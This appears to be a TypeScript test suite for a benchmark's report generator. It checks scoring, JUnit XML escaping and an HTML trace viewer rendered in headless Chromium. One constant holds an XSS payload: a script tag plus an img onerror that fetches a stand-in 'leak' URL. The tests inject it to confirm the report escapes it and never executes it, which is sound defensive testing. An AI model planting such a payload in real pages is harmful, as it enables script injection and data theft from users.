/**
 * `mcpbench report` over a synthetic run directory (hand-written episode records of all four outcomes, a torn
 * last journal line): report.json (scores, each episode's outcome and reason), junit.xml (failures and
 * errors apart, escaping included) and report.html, the last opened in headless Chromium: every plot drawn,
 * the outcome filter, the trace viewer expands an episode, no request leaves the page, a screenshot saved.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { openRun } from '../../server/src/record/run-folder.ts';
import { computeScores } from '../../server/src/scoring/metrics.ts';
import { chromiumMissing, openChromium } from '../chromium.ts';
import { classifyFailure } from '../../server/src/scoring/failure-modes.ts';
import { renderJunit, reportRun, verdictText, xmlEscape, type ReportJson } from '../../server/src/scoring/report.ts';
import { type CallRecord, type EpisodeRecord, type ModelRecord, type NodeVerdict, RUN_RECORD_VERSION, type RunRecord } from '../../server/src/record/schema.ts';
import { workUnitKey } from '../../server/src/record/work-units.ts';

/** Failure modes from the trace alone (these episodes' tasks are not files). */
const diagnose = (r: EpisodeRecord) => classifyFailure(r, undefined, undefined);

const config: RunRecord = {
  version: RUN_RECORD_VERSION,
  kind: 'run',
  run_id: 'run-2026-05-01-test',
  agent: 'reference',
  // A model agent's options are its resolved settings.
  agent_options: { base_url: 'http://127.0.0.1:8080/v1', model: 'qwen-7b', temperature: 0.2, seed: 7, max_turns: 50, system_prompt: 'Be brief <b>.', tool_call_format: 'auto', prices: { file: 'prices.json', currency: 'EUR', model: { input: 1, output: 2 } } },
  max_cost: 5,
  fault_profile: 'light',
  seed: 7,
  task_files: [],
  tasks: ['fs-move', 'gh-merge', 'sup-refund', 'sup-retry', 'sup-crash'],
  created_at: '2026-05-01T10:00:00.000Z',
  perturbations: ['0', '1'],
  trials: 2,
  concurrency: 1,
  sandbox: 'process',
};

/** A model record: 1,000 prompt tokens (400 cached) and 200 completion tokens at EUR 1 / 2 per million = 0.0014. */
const modelRecord = (latency: number[]): ModelRecord => ({
  protocol: 'openai',
  model: 'qwen-7b',
  requests: latency.length,
  turns: latency.length,
  retries: 0,
  prompt_tokens: 1000,
  completion_tokens: 200,
  cached_tokens: 400,
  cache_write_tokens: 0,
  responses_without_usage: 0,
  cost: 0.0014,
  currency: 'EUR',
  turn_latency_ms: latency,
  calls: [{ turn: 0, format: 'hermes', name: 'support_refund', status: 'malformed', problem: 'bad-json' }, { turn: 1, format: 'hermes', name: 'support_refund', status: 'sent' }],
  end: 'answer',
});

const HOSTILE = `<script>window.__xss = 1</script><img src="http://example.com/x.png" onerror="fetch('http://example.com/leak')"> & ]]> "q" 'a'`;

const failedVerdict: NodeVerdict = {
  path: ['success_predicate'],
  kind: 'all',
  value: false,
  children: [
    { path: ['success_predicate', 'all', 0], kind: 'leaf', name: 'filesystem.fileExists', value: false, evidence: { path: 'archive/report.txt' } },
    {
      path: ['success_predicate', 'all', 1],
      kind: 'not',
      value: true,
      children: [{ path: ['success_predicate', 'all', 1, 'not'], kind: 'leaf', name: 'filesystem.fileExists', value: false }],
    },
    { path: ['success_predicate', 'all', 2], kind: 'leaf', name: 'answer.includes', value: undefined, undecided: 'bad \u0001 <arg>' },
  ],
};
const passedVerdict: NodeVerdict = { path: ['success_predicate'], kind: 'leaf', name: 'filesystem.fileExists', value: true };

function call(index: number, tool: string, extra: Partial<CallRecord> = {}): CallRecord {
  return { index, tool, qualified: tool.replace('_', '.'), arguments: { path: 'report.txt' }, status: 'ok', result: { content: [{ type: 'text', text: 'ok' }] }, latency_ms: 12, ...extra };
}

function episode(fields: Partial<EpisodeRecord> & Pick<EpisodeRecord, 'task_id' | 'trial' | 'passed'>): EpisodeRecord {
  const record: Omit<EpisodeRecord, 'work_unit'> = {
    run_id: config.run_id,
    task_hash: `hash-${fields.task_id}`,
    agent: 'reference',
    seed: 7,
    variant: 'reference:0',
    fault_profile: 'light',
    perturbation: '0',
    status: fields.passed ? 'passed' : 'failed',
    category: 'single-tool',
    namespaces: ['filesystem'],
    max_steps: 6,
    tool_calls: 1,
    unlisted_calls: 0,
    errors_seen: 0,
    budget_exceeded: false,
    calls: [call(0, 'filesystem_move_file')],
    started_at: '2026-05-01T10:00:01.000Z',
    duration_ms: 1500,
    attempt: 1,
    verdict: fields.passed ? passedVerdict : failedVerdict,
    ...fields,
  };
  return { work_unit: workUnitKey(record), ...record };
}

const results: EpisodeRecord[] = [
  episode({ task_id: 'fs-move', trial: 0, passed: true, fault_profile: 'none' }),
  episode({
    task_id: 'fs-move',
    trial: 1,
    passed: false,
    fault_profile: 'none',
    tool_calls: 2,
    errors_seen: 1,
    answer: HOSTILE,
    calls: [
      call(0, 'filesystem_move_file', { status: 'fault', fault: { type: 'TransientTimeout', executed: false, detail: 'timed out after 30 s' }, result: { isError: true, content: [{ type: 'text', text: 'timeout' }] }, latency_ms: 30000 }),
      call(1, 'filesystem_read_text_file', { result: { content: [{ type: 'text', text: HOSTILE }] } }),
    ],
  }),
  episode({
    task_id: 'gh-merge',
    trial: 0,
    passed: true,
    namespaces: ['github', 'chat'],
    category: 'composition',
    tool_calls: 3,
    calls: [call(0, 'github_get_pull_request', { status: 'fault', fault: { type: 'HighLatency', executed: true } }), call(1, 'github_merge_pull_request'), call(2, 'chat_post_message')],
  }),
  episode({
    task_id: 'gh-merge',
    trial: 1,
    passed: false,
    namespaces: ['github', 'chat'],
    category: 'composition',
    budget_exceeded: true,
    tool_calls: 6,
    unlisted_calls: 1,
    calls: [call(0, 'github_merge_pr', { status: 'unlisted', qualified: undefined, result: { isError: true } }), ...[1, 2, 3, 4, 5, 6].map((i) => call(i, 'github_get_pull_request'))],
  }),
  episode({
    task_id: 'sup-refund',
    trial: 0,
    passed: false,
    status: 'infra_error',
    namespaces: ['support'],
    category: 'recovery',
    calls: [],
    tool_calls: 0,
    verdict: undefined,
    error: { kind: 'infra', code: 'server-exited', message: 'support call refund failed (the server exited)', namespace: 'support', exited: true, stderr_tail: '<boom> & "quotes"' },
  }),
  episode({
    task_id: 'sup-retry',
    trial: 0,
    passed: true,
    namespaces: ['support'],
    category: 'recovery',
    fault_profile: 'medium',
    perturbation: '1',
    errors_seen: 1,
    tool_calls: 2,
    calls: [call(0, 'support_refund', { status: 'fault', fault: { type: 'SoftRateLimit', executed: false, detail: 'retry-after 1 s' } }), call(1, 'support_refund')],
    model: modelRecord([300, 500]),
    malformed_calls: 1,
  }),
  episode({
    task_id: 'sup-crash',
    trial: 0,
    passed: false,
    status: 'agent_error',
    namespaces: ['support'],
    calls: [],
    tool_calls: 0,
    error: { kind: 'agent', code: 'agent-exit', message: 'command agent exited with code 3', exited: true, exit_code: 3, signal: null, stderr_tail: 'Traceback: <KeyError>' },
  }),
];

/** The page's globals used below: the tests compile without the DOM library. */
interface InPage {
  document: { body: unknown };
  getComputedStyle(element: unknown): { backgroundColor: string };
  DOMParser: new () => { parseFromString(text: string, type: string): { querySelector(selector: string): { textContent: string | null } | null } };
}

/** A run directory as the runner leaves it after a SIGKILL mid-write: the last line torn. */
function runDirectory(): string {
  const dir = mkdtempSync(join(tmpdir(), 'mcpbench-report-'));
  writeFileSync(join(dir, 'run.json'), JSON.stringify(config, null, 2));
  writeFileSync(join(dir, 'episodes.jsonl'), results.map((r) => JSON.stringify(r) + '\n').join(''));
  appendFileSync(join(dir, 'episodes.jsonl'), JSON.stringify(results[0]).slice(0, 57));
  return dir;
}

test('the report reads through the run store: the torn last line is reported, never read', () => {
  const dir = runDirectory();
  const run = openRun(dir);
  assert.equal(run.episodes.length, 7);
  assert.deepEqual(run.config, config);
  assert.equal(run.warnings.length, 1);
  assert.match(run.warnings[0]!, /episodes\.jsonl:8: skipped: a torn last line/);
  const output = reportRun(dir, { scoring: { resamples: 10 } });
  assert.deepEqual(output.warnings, run.warnings, 'the report says what the store said');
});

test('verdict tree as indented text, each node with its value', () => {
  assert.equal(
    verdictText(failedVerdict),
    [
      'all = false',
      '  filesystem.fileExists = false (evidence: {"path":"archive/report.txt"})',
      '  not = true',
      '    filesystem.fileExists = false',
      '  answer.includes = unknown (undecided: bad \u0001 <arg>)',
    ].join('\n'),
  );
});

test('XML escaping: markup characters, characters XML 1.0 cannot carry, line breaks in attributes', () => {
  assert.equal(xmlEscape(`a<b>&"c"'d' ]]>`), 'a&lt;b&gt;&amp;&quot;c&quot;&apos;d&apos; ]]&gt;');
  assert.equal(xmlEscape('x\u0000y\u0008z\u001f'), 'x\uFFFDy\uFFFDz\uFFFD');
  assert.equal(xmlEscape('lone \uD800 high, lone \uDC00 low, end \uD83D'), 'lone \uFFFD high, lone \uFFFD low, end \uFFFD');
  assert.equal(xmlEscape('pair \uD83D\uDE00 kept'), 'pair \uD83D\uDE00 kept');
  assert.equal(xmlEscape('\uFFFE\uFFFF'), '\uFFFD\uFFFD');
  assert.equal(xmlEscape('tab\tline\ncr\r'), 'tab\tline\ncr\r');
  assert.equal(xmlEscape('tab\tline\ncr\r', true), 'tab&#9;line&#10;cr&#13;');
});

/** Without an XML parser in node: every `<` opens one of our tags, every `&` starts an entity. */
function assertWellFormedish(xml: string) {
  const body = xml.replace(/^<\?xml[^>]*\?>\n/, '');
  const tags = [...body.matchAll(/<(\/?)([a-z]+)((?:\s+[a-z_]+="[^"<>]*")*)\s*(\/?)>/g)];
  const stripped = body.replace(/<(\/?)([a-z]+)((?:\s+[a-z_]+="[^"<>]*")*)\s*(\/?)>/g, '');
  assert.ok(!/[<>]/.test(stripped), 'no stray < or > outside tags');
  assert.ok(!/&(?!(amp|lt|gt|quot|apos|#\d+);)/.test(body), 'every & starts an entity');
  const stack: string[] = [];
  for (const [, close, name, , selfClosing] of tags) {
    if (close) assert.equal(stack.pop(), name, `</${name}> closes the open element`);
    else if (!selfClosing) stack.push(name!);
  }
  assert.deepEqual(stack, [], 'every element closed');
}

test('junit.xml: one suite per namespace, one case per work unit, verdict trees as failures, agent and infra errors as errors', () => {
  const xml = renderJunit(config, results);
  assertWellFormedish(xml);
  const suites = [...xml.matchAll(/<testsuite name="([^"]+)" tests="(\d+)" failures="(\d+)" errors="(\d+)"/g)].map((m) => m.slice(1));
  assert.deepEqual(suites, [
    ['chat+github', '2', '1', '0'],
    ['filesystem', '2', '1', '0'],
    ['support', '3', '0', '2'],
  ]);
  assert.match(xml, /^<\?xml version="1.0" encoding="UTF-8"\?>\n<testsuites name="mcpbench run-2026-05-01-test" tests="7" failures="2" errors="2" time="10.500">/);
  assert.ok(xml.includes('<testcase classname="filesystem.fs-move" name="fs-move [trial 1] [reference:0] [faults none] [perturbation 0]" time="1.500">'));
  // The failure body: the verdict tree, escaped, with the undecided leaf's control character replaced.
  const failure = [
    '<failure message="success predicate false" type="predicate">all = false',
    '  filesystem.fileExists = false (evidence: {&quot;path&quot;:&quot;archive/report.txt&quot;})',
    '  not = true',
    '    filesystem.fileExists = false',
    '  answer.includes = unknown (undecided: bad \uFFFD &lt;arg&gt;)',
    '',
    'answer: &quot;&lt;script&gt;',
  ].join('\n');
  assert.ok(xml.includes(failure), 'the verdict tree is the failure body');
  assert.ok(xml.includes('injected faults: #0 filesystem_move_file: TransientTimeout</failure>'));
  assert.ok(xml.includes('<failure message="step budget exceeded (6 calls, max_steps 6)" type="budget_exceeded">'));
  assert.ok(
    xml.includes(
      '<error message="infrastructure error (not counted as an agent failure): server-exited: support call refund failed (the server exited)" type="infra_error">' +
        'support call refund failed (the server exited)\nnamespace support, the process had exited\n\n--- last lines of its stderr ---\n&lt;boom&gt; &amp; &quot;quotes&quot;</error>',
    ),
  );
  // An agent that broke is an <error> of its own type, never a <failure> with "success predicate false".
  assert.ok(
    xml.includes(
      '<error message="agent error: agent-exit: command agent exited with code 3" type="agent_error">command agent exited with code 3\nexit code 3, the process had exited\n\n--- last lines of its stderr ---\nTraceback: &lt;KeyError&gt;\n\nall = false',
    ),
  );
  assert.ok(!xml.includes('<script>') && !xml.includes('<boom>'));
  assert.equal((xml.match(/<testcase /g) ?? []).length, 7);
});

test('report.json: scores, config, and the outcome and reason of each episode; the bootstrap follows the run seed', () => {
  const dir = runDirectory();
  const output = reportRun(dir, { scoring: { resamples: 200 }, diagnose });
  const report = JSON.parse(readFileSync(output.files.json, 'utf8')) as ReportJson;
  assert.deepEqual(report.run, config);
  assert.deepEqual(report.scores, computeScores(results, { seed: 7, resamples: 200 }));
  assert.equal(report.warnings.length, 1);
  // 6 scored episodes (the infra error is left out), 3 passed, 2 failed, 1 agent error.
  assert.deepEqual(report.scores.episodes, { records: 7, scored: 6, passed: 3, failed: 2, agent_errors: 1, infra_errors: 1, infra_unresolved: 1 });
  assert.equal(report.scores.success_rate.value, 0.5);
  // The two failed episodes, each with its failure mode: the budget overrun, and an answer its leaf does not
  // accept after a successful read (the fault before it was recovered from).
  assert.equal(report.failures?.failed, 2);
  assert.equal(report.failures?.counts.budget_exhausted, 1);
  assert.equal(report.failures?.counts.wrong_final_answer, 1);
  assert.equal(report.failures?.specific_share, 1);
  assert.deepEqual(report.scores.recovery_rate, { value: 1, numerator: 1, denominator: 1 });
  assert.deepEqual(
    report.episodes.map((e) => [e.task_id, e.trial, e.status, e.reason]),
    [
      ['fs-move', 0, 'passed', ''],
      ['fs-move', 1, 'failed', 'success predicate false'],
      ['gh-merge', 0, 'passed', ''],
      ['gh-merge', 1, 'failed', 'budget exceeded: 6 calls, max_steps 6'],
      ['sup-refund', 0, 'infra_error', 'server-exited: support call refund failed (the server exited)'],
      ['sup-retry', 0, 'passed', ''],
      ['sup-crash', 0, 'agent_error', 'agent-exit: command agent exited with code 3'],
    ],
  );
  assert.equal(report.episodes[6]!.error?.exit_code, 3);
  assert.equal(readFileSync(output.files.junit, 'utf8'), renderJunit(config, [...openRun(dir).episodes]));
  // A second report of the same run is byte for byte the same.
  const again = reportRun(dir, { scoring: { resamples: 200 }, diagnose });
  assert.equal(readFileSync(again.files.json, 'utf8'), readFileSync(output.files.json, 'utf8'));
  const page = readFileSync(output.files.html, 'utf8');
  assert.ok(!/<script[^>]*\ssrc=|<link[^>]*\shref=/i.test(page), 'no external script or stylesheet');
  assert.ok(!page.includes(HOSTILE), 'agent text is embedded as escaped JSON, never as markup');
});

test('report.html in headless Chromium: plots drawn, trace viewer expands, nothing leaves the page', {
  skip: chromiumMissing(),
}, async () => {
  const dir = runDirectory();
  const output = reportRun(dir, { scoring: { resamples: 200 }, diagnose });
  const browser = await openChromium();
  try {
    const { page, outside, errors } = browser;
    await page.goto(pathToFileURL(output.files.html).href);
    await page.waitForSelector('body[data-rendered="true"]');

    // Every plot container holds an svg with marks of the kind it draws.
    const plots = await page.$$eval('.plot[data-mark]', (nodes) =>
      nodes.map((n) => ({ id: n.id, marks: n.querySelectorAll(`svg g[aria-label="${n.getAttribute('data-mark')}"] > *`).length })),
    );
    assert.deepEqual(plots.map((p) => p.id), ['plot-namespace', 'plot-category', 'plot-surface', 'plot-passk', 'plot-faults', 'plot-failures']);
    for (const plot of plots) assert.ok(plot.marks > 0, `${plot.id} drew its marks`);
    const counts = Object.fromEntries(plots.map((p) => [p.id, p.marks]));
    // Namespaces chat, filesystem, github, support (the infra error's namespace has a scored episode too).
    assert.equal(counts['plot-namespace'], 4);
    assert.equal(counts['plot-category'], 3);
    // k = 1 cells: (none,0) (light,0) (medium,1).
    assert.equal(counts['plot-surface'], 3);
    assert.equal(counts['plot-faults'], 3);
    assert.equal(counts['plot-failures'], 2);
    assert.equal(await page.locator('details.episode .badge.mode', { hasText: 'Budget exhausted' }).count(), 1);
    // k = 2: only the two profiles whose tasks had two trials.
    await page.selectOption('#surface-k', '2');
    assert.equal(await page.locator('#plot-surface svg g[aria-label="cell"] > *').count(), 2);
    await page.selectOption('#surface-k', '1');
    assert.equal(await page.locator('#plot-surface svg g[aria-label="cell"] > *').count(), 3);

    // The trace viewer: the failed fs-move trial expands into its calls, fault marked, and its verdict tree.
    const episodes = page.locator('details.episode');
    assert.equal(await episodes.count(), 7);
    // The outcome filter: errors apart from failures, each with its reason on the summary line.
    const visible = () => page.locator('details.episode:not([hidden])');
    await page.selectOption('#filter-status', 'agent_error');
    assert.equal(await visible().count(), 1);
    assert.match(await visible().locator('summary').innerText(), /agent error[\s\S]*sup-crash[\s\S]*agent-exit: command agent exited with code 3/);
    await page.selectOption('#filter-status', 'error');
    assert.equal(await visible().count(), 2);
    await page.selectOption('#filter-status', 'failed');
    assert.equal(await visible().count(), 2);
    await page.selectOption('#filter-status', '');
    assert.equal(await visible().count(), 7);
    assert.match(await page.locator('#faults').innerText(), /fault type\s+decided\s+delivered/);
    assert.match(await page.locator('#errors').innerText(), /agent-exit\s+command agent exited with code 3/);
    const target = episodes.filter({ hasText: 'fs-move' }).filter({ hasText: 'trial 1' });
    assert.equal(await target.locator('table.calls').count(), 0, 'collapsed until clicked');
    await target.locator('summary').click();
    await target.locator('table.calls').waitFor();
    assert.equal(await target.locator('table.calls tbody tr').count(), 2);
    assert.equal(await target.locator('tr.fault .fault-mark').innerText(), '⚡ TransientTimeout (not executed): timed out after 30 s');
    assert.deepEqual(await target.locator('ul.verdict .v').allInnerTexts(), ['false', 'false', 'true', 'false', 'unknown']);
    assert.ok((await target.locator('table.calls').innerText()).includes('<script>window.__xss = 1</script>'), 'agent output shown as text');
    assert.equal(await page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss), undefined, 'agent output never runs');
    assert.equal(await page.locator('#episode-list img').count(), 0);

    // A model agent's spending: tokens, cost, cost per passed task (3 passed), latency, malformed calls, settings.
    const cards = Object.fromEntries(
      await page.$$eval('#summary .card', (nodes) => nodes.map((n) => [n.querySelector('.label')!.textContent, n.querySelector('.value')!.textContent])),
    );
    assert.deepEqual(
      [cards['Tokens'], cards['Cost'], cards['Cost per passed task'], cards['Model latency per turn'], cards['Malformed calls']],
      ['1,200', 'EUR 0.0014', 'EUR 0.0005', '400 ms', '6.3%'],
      'malformed: 1 of 15 gateway calls + 1',
    );
    const settings = await page.locator('#agent-settings').innerText();
    assert.match(settings, /model qwen-7b · temperature 0\.2 · seed 7/);
    assert.match(settings, /prices prices\.json · max_cost 5/);
    const sup = episodes.filter({ hasText: 'sup-retry' });
    await sup.locator('summary').click();
    assert.match(await sup.locator('.trace').innerText(), /qwen-7b · 2 turns, 2 requests · 1200 tokens \(prompt 1000, completion 200\) · EUR 0\.0014 · 1 malformed calls · formats hermes · ended: answer/);

    const screenshot = join(dirname(output.files.html), 'report.png');
    await page.screenshot({ path: screenshot, fullPage: true });
    console.log(`report screenshot: ${screenshot}`);
    // The dark theme really switches.
    const light = await page.evaluate(() => {
      const w = globalThis as unknown as InPage;
      return w.getComputedStyle(w.document.body).backgroundColor;
    });
    await page.emulateMedia({ colorScheme: 'dark' });
    const dark = await page.evaluate(() => {
      const w = globalThis as unknown as InPage;
      return w.getComputedStyle(w.document.body).backgroundColor;
    });
    assert.notEqual(light, dark);
    await page.screenshot({ path: join(dirname(output.files.html), 'report-dark.png'), fullPage: true });

    // junit.xml parses as XML in the browser, and the failure text round-trips.
    const parsed = await page.evaluate((xml) => {
      const doc = new (globalThis as unknown as InPage).DOMParser().parseFromString(xml, 'application/xml');
      return { error: doc.querySelector('parsererror')?.textContent ?? null, failure: doc.querySelector('failure')?.textContent ?? null };
    }, readFileSync(output.files.junit, 'utf8'));
    assert.equal(parsed.error, null);
    assert.ok(parsed.failure?.startsWith('all = false\n  filesystem.fileExists = false'));

    assert.deepEqual(outside, [], 'no request left the page');
    assert.deepEqual(errors, [], 'no script error');
  } finally {
    await browser.close();
  }
});
